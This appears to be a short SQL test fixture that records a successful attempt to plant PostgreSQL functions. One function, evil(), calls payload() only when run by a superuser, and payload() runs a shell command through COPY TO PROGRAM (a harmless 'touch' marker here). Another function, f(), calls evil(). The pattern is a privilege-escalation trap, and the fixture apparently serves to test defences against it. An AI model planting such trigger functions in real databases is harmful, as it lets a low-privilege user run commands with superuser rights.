-- tries: a body in SQL's standard form, which is parsed where it is made
-- ends: SUCCEEDED
-- leaves: function public.evil() | function public.f() | function public.payload()
create function payload() returns int language plpgsql as $$ begin execute 'copy (select 1) to program ''touch ${FILE}'''; return 1; end $$;
create function evil() returns int immutable language plpgsql as $$
begin if current_setting('is_superuser') = 'on' then perform public.payload(); end if; return 1; end $$;
create function f() returns int begin atomic; select evil() + 1; end;
